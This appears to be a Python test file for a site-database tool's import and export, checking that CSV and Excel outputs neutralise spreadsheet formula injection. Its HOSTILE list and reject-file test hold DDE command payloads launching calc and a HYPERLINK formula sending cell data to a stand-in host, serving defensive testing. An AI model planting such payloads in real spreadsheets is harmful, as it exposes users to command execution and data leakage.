"""No export holds a live formula, and export → import gives back exactly the stored text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import create_engine, select, update

from parkatlas.demo.build import build_demo
from parkatlas.io.cellsafe import TRIGGERS, neutralise, restore, xlsx_value
from parkatlas.models import Project, Site
from tests.helpers import run_cli

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''@twice",
    "'plain quote",
]


@given(st.text())
def test_restore_undoes_neutralise(s: str) -> None:
    assert restore(neutralise(s)) == s


@given(st.text(min_size=1))
def test_neutralised_text_never_starts_with_a_trigger(s: str) -> None:
    assert not str(neutralise(s)).startswith(TRIGGERS)


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert neutralise(-5.0) == -5.0 and neutralise(True) is True
    assert neutralise("厂房") == "厂房" and neutralise("'x'") == "'x'"
    assert neutralise("=1") == "'=1" and restore("'=1") == "=1"
    assert xlsx_value({"a": "=x"}) == '{"a": "=x"}'  # JSON text starts with {, not a formula
    assert xlsx_value("a\x00b\x01") == "ab"


def _hostile_sites_csv(path: Path) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["编号", "区域", "类型", "面积", "状态", "地址", "来源"])
        for i, text in enumerate(HOSTILE):
            w.writerow([f"H{i}", "嘉定区", "厂房", 1000 + i, "可租", text, text[::-1]])


def _addresses(url: str) -> dict[str, tuple[str | None, str | None]]:
    eng = create_engine(url)
    with eng.connect() as conn:
        rows = conn.execute(select(Site.id, Site.address, Site.source).order_by(Site.id)).all()
    eng.dispose()
    return {r[0]: (r[1], r[2]) for r in rows}


def _xlsx_cells(path: Path) -> list[object]:
    wb = load_workbook(path)  # not read-only: every cell has its data_type
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name}: formula in {c.coordinate}: {c.value!r}"
                cells.append(c.value)
    return cells


def test_hostile_cells_round_trip_without_formulas(
    atlas_url: str, sqlite_template: Path, tmp_path: Path
) -> None:
    src = tmp_path / "hostile.csv"
    _hostile_sites_csv(src)
    res = run_cli("import", "sites", str(src), "--json", url=atlas_url)
    assert res.returncode == 0, res.stdout + res.stderr
    stored = _addresses(atlas_url)
    assert stored["H0"][0] == HOSTILE[0]
    # a quote before a formula in a CSV means "this is text", as in Excel: the quote is dropped
    assert stored["H5"][0] == "=already quoted" and stored["H7"][0] == "'plain quote"
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"sites.{fmt}"
        assert run_cli("export", "sites", "-f", fmt, "-o", str(out), url=atlas_url).returncode == 0
        if fmt == "xlsx":
            cells = _xlsx_cells(out)
        else:
            with out.open(encoding="utf-8-sig", newline="") as fh:
                cells = [c for row in csv.reader(fh) for c in row]
        texts = [c for c in cells if isinstance(c, str)]
        assert "'" + HOSTILE[0] in texts
        assert not [c for c in texts if c.startswith(TRIGGERS)], fmt
        # the export imports back exactly (into a fresh atlas and into the same one)
        fresh = tmp_path / f"fresh-{fmt}.db"
        fresh.write_bytes(sqlite_template.read_bytes())
        url2 = f"sqlite:///{fresh}"
        back = run_cli("import", "sites", str(out), "--json", url=url2)
        assert back.returncode == 0, back.stdout + back.stderr
        assert _addresses(url2) == stored, fmt
        again = json.loads(run_cli("import", "sites", str(out), "--json", url=atlas_url).stdout)
        assert again["updated"] == 0 and again["inserted"] == 0


def test_reject_file_holds_no_formula(atlas_url: str, tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("编号,类型,面积,地址\nB1,=cmd|' /C calc'!A0,-5,@SUM(1)\n", encoding="utf-8")
    res = run_cli("import", "sites", str(src), "--json", url=atlas_url)
    assert res.returncode == 1
    rejects = tmp_path / "bad.rejects.csv"
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_match_batch_xlsx_and_csv_hold_no_formula(atlas_url: str, tmp_path: Path) -> None:
    build_demo(atlas_url, sites=60, enterprises=8, projects=6, seed=5)
    eng = create_engine(atlas_url)
    with eng.begin() as conn:
        conn.execute(update(Project).values(name=HOSTILE[1]))
    eng.dispose()
    for name in ("m.xlsx", "m.csv"):
        out = tmp_path / name
        res = run_cli("match-batch", "-o", str(out), "--json", url=atlas_url)
        assert res.returncode == 0, res.stderr
        if name.endswith(".xlsx"):
            texts = [c for c in _xlsx_cells(out) if isinstance(c, str)]
        else:
            with out.open(encoding="utf-8-sig", newline="") as fh:
                texts = [c for row in csv.reader(fh) for c in row]
        assert "'" + HOSTILE[1] in texts
        assert not [c for c in texts if c.startswith(TRIGGERS)], name
